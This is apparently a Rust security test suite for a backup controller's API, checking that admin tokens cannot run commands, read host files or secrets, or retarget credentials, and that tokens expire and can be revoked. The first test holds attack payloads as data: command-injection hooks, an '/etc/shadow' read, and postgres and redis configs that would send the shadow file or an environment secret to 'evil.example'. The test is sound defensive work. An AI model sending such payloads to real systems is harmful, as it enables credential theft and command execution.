//! What an admin token cannot do on the controller host, tried as an attacker holding one: make the
//! daemon run a command (hooks, `command` components), read a host file or environment variable
//! (`password_file`, `password_env`, `files` paths, `sqlite` path, `tool_dir`) and send it to a
//! server of its choosing; read hook strings or secrets back. Also token management: list, revoke,
//! and expiry on the injected clock.

use axum::http::{Method, StatusCode};
use ibs_controller::testing::{self};
use serde_json::json;

mod support;
use support::{Api, T0};

fn api_with(components: Vec<ibs_controller::component::ComponentConfig>) -> Api {
    Api::with(components)
}

/// Every byte under `dir` (the state database, its WAL, the secret key…).
fn all_bytes(dir: &std::path::Path) -> Vec<u8> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap().flatten() {
            let p = e.path();
            if p.is_dir() {
                stack.push(p);
            } else if let Ok(b) = std::fs::read(&p) {
                out.extend_from_slice(&b);
            }
        }
    }
    out
}

fn contains(hay: &[u8], needle: &str) -> bool {
    hay.windows(needle.len()).any(|w| w == needle.as_bytes())
}

#[tokio::test(flavor = "multi_thread")]
async fn an_admin_token_cannot_make_the_daemon_run_commands_or_read_host_files() {
    let a = api_with(vec![]);
    let marker = a.t.dir.path().join("pwned");
    let m = marker.display().to_string();
    std::env::set_var("IBS_TEST_DAEMON_SECRET", "env-secret-4711");
    let attacks = [
        json!([{"name": "x", "kind": "files", "paths": ["/tmp"], "pre_hook": format!("touch {m}")}]),
        json!([{"name": "x", "kind": "files", "paths": ["/tmp"], "post_hook": format!("touch {m}")}]),
        json!([{"name": "x", "kind": "command", "backup": format!("touch {m}")}]),
        json!([{"name": "x", "kind": "files", "paths": ["/etc"]}]),
        json!([{"name": "x", "kind": "sqlite", "path": "/etc/shadow"}]),
        json!([{"name": "x", "kind": "postgres", "url": "postgresql://u@evil.example:5432/d",
                "password_file": "/etc/shadow"}]),
        json!([{"name": "x", "kind": "postgres", "url": "postgresql://u@evil.example:5432/d",
                "password_env": "IBS_TEST_DAEMON_SECRET"}]),
        json!([{"name": "x", "kind": "redis", "url": "redis://evil.example:6379/0",
                "tool_dir": a.t.dir.path()}]),
        json!([{"name": "x", "kind": "command"}]),
        json!([{"name": "x", "kind": "files"}]),
    ];
    for body in attacks {
        let (s, v) = a
            .call(
                Method::PUT,
                "/api/v1/components",
                &a.admin,
                Some(body.clone()),
            )
            .await;
        assert_eq!(s, StatusCode::BAD_REQUEST, "accepted {body}: {v}");
        let field = v["error"]["field"].as_str().unwrap_or("");
        assert!(field.starts_with("component[0]."), "{body}: {v}");
    }
    assert!(
        a.t.ctl.components_config().unwrap().is_empty(),
        "nothing was stored"
    );
    // Even a backup started now finds nothing to run.
    let _ = a
        .call(Method::POST, "/api/v1/backups", &a.admin, None)
        .await;
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    assert!(!marker.exists(), "a command named through the API ran");
}

#[tokio::test(flavor = "multi_thread")]
async fn the_api_references_host_components_and_declares_service_components_with_a_sealed_password()
{
    let mut host = testing::files("etc", &[std::path::Path::new("/etc")]);
    host.pre_hook = Some("echo hook-secret-9182 > /dev/null".into());
    let mut pg: ibs_controller::component::ComponentConfig = serde_json::from_value(json!({
        "name": "hostpg", "kind": "postgres", "url": "postgresql://u@db.example:5432/app",
        "password_file": "/etc/ibs/pg-password-file"
    }))
    .unwrap();
    pg.priority = 5;
    let a = api_with(vec![host, pg]);
    // Readers and admins see that hooks and passwords are set, never what they are.
    for token in [&a.reader, &a.admin] {
        let (s, v) = a.call(Method::GET, "/api/v1/components", token, None).await;
        assert_eq!(s, StatusCode::OK, "{v}");
        let text = v.to_string();
        assert!(!text.contains("hook-secret-9182"), "hook shown: {text}");
        assert!(
            !text.contains("pg-password-file"),
            "password file shown: {text}"
        );
        let etc = v.as_array().unwrap().iter().find(|c| c["name"] == "etc");
        assert_eq!(etc.unwrap()["pre_hook_set"], json!(true), "{text}");
        assert_eq!(etc.unwrap()["source"], json!("config"), "{text}");
    }
    // A reference keeps the host's definition (hook included) and may change the priority.
    let password = "Api-Pw-5521-zz";
    let (s, v) = a
        .call(
            Method::PUT,
            "/api/v1/components",
            &a.admin,
            Some(json!([
                {"name": "etc", "priority": 7},
                {"name": "appdb", "kind": "postgres",
                 "url": "postgresql://backup@127.0.0.1:5432/app", "password": password}
            ])),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{v}");
    assert!(!v.to_string().contains(password), "password echoed: {v}");
    assert!(!v.to_string().contains("hook-secret"), "hook echoed: {v}");
    let stored = a.t.ctl.components_config().unwrap();
    let etc = stored.iter().find(|c| c.name == "etc").unwrap();
    assert_eq!(etc.priority, 7);
    assert!(etc
        .pre_hook
        .as_deref()
        .unwrap()
        .contains("hook-secret-9182"));
    let appdb = a.t.ctl.components().unwrap();
    let appdb = appdb.iter().find(|c| c.name == "appdb").unwrap();
    match &appdb.kind {
        ibs_controller::component::ComponentKind::Postgres(spec) => {
            assert_eq!(spec.secret("appdb").unwrap().get(), Some(password));
        }
        other => panic!("{other:?}"),
    }
    // A reference cannot retarget a host component (its host password would follow the URL).
    let (s, v) = a
        .call(
            Method::PUT,
            "/api/v1/components",
            &a.admin,
            Some(json!([{"name": "hostpg", "url": "postgresql://u@evil.example:5432/app"}])),
        )
        .await;
    assert_eq!(s, StatusCode::BAD_REQUEST, "{v}");
    let (s, v) = a
        .call(
            Method::PUT,
            "/api/v1/components",
            &a.admin,
            Some(json!([{"name": "hostpg", "kind": "postgres",
                         "url": "postgresql://u@evil.example:5432/app"}])),
        )
        .await;
    assert_eq!(s, StatusCode::BAD_REQUEST, "{v}");
    // A name the host does not define is not a reference.
    let (s, v) = a
        .call(
            Method::PUT,
            "/api/v1/components",
            &a.admin,
            Some(json!([{"name": "nosuch"}])),
        )
        .await;
    assert_eq!(s, StatusCode::BAD_REQUEST, "{v}");
    // The password is nowhere in the data directory in plaintext, nor in any listing.
    for path in ["/api/v1/components", "/api/v1/audit"] {
        let (_, v) = a.call(Method::GET, path, &a.admin, None).await;
        assert!(!v.to_string().contains(password), "{path}: {v}");
    }
    assert!(
        !contains(&all_bytes(a.t.dir.path()), password),
        "the API password is stored in plaintext"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn tokens_are_listed_revoked_and_expire_on_the_controller_clock() {
    let a = api_with(vec![]);
    let (s, v) = a
        .call(
            Method::POST,
            "/api/v1/tokens",
            &a.admin,
            Some(json!({"role": "operator", "label": "ci", "expires_in_seconds": 3600})),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{v}");
    let short = v["token"].as_str().unwrap().to_string();
    let (s, list) = a.call(Method::GET, "/api/v1/tokens", &a.admin, None).await;
    assert_eq!(s, StatusCode::OK, "{list}");
    let text = list.to_string();
    for t in [&a.admin, &a.reader, &short] {
        assert!(!text.contains(&t[4..]), "a token is listed: {text}");
    }
    assert!(!text.contains("hash"), "{text}");
    let ci = list
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["label"] == "ci")
        .unwrap()
        .clone();
    assert_eq!(ci["expires_at"], json!(T0 + 3600));
    // Readers may not list or revoke.
    assert_eq!(
        a.call(Method::GET, "/api/v1/tokens", &a.reader, None)
            .await
            .0,
        StatusCode::FORBIDDEN
    );
    // Valid until the controller's clock passes the expiry.
    assert_eq!(
        a.call(Method::GET, "/api/v1/jobs", &short, None).await.0,
        StatusCode::OK
    );
    a.t.clock.advance(3600);
    assert_eq!(
        a.call(Method::GET, "/api/v1/jobs", &short, None).await.0,
        StatusCode::UNAUTHORIZED
    );
    let (_, list) = a.call(Method::GET, "/api/v1/tokens", &a.admin, None).await;
    let ci = list.as_array().unwrap().iter().find(|t| t["label"] == "ci");
    assert_eq!(ci.unwrap()["expired"], json!(true));
    // Revoking the reader token locks it out at once.
    let rid = list
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["label"] == "r")
        .unwrap()["id"]
        .as_i64()
        .unwrap();
    assert_eq!(
        a.call(Method::GET, "/api/v1/jobs", &a.reader, None).await.0,
        StatusCode::OK
    );
    let (s, v) = a
        .call(
            Method::DELETE,
            &format!("/api/v1/tokens/{rid}"),
            &a.admin,
            None,
        )
        .await;
    assert_eq!(s, StatusCode::NO_CONTENT, "{v}");
    assert_eq!(
        a.call(Method::GET, "/api/v1/jobs", &a.reader, None).await.0,
        StatusCode::UNAUTHORIZED
    );
    assert_eq!(
        a.call(
            Method::DELETE,
            &format!("/api/v1/tokens/{rid}"),
            &a.admin,
            None
        )
        .await
        .0,
        StatusCode::NOT_FOUND
    );
    let (_, audit) = a.call(Method::GET, "/api/v1/audit", &a.admin, None).await;
    assert!(audit.to_string().contains("token.revoke"), "{audit}");
}
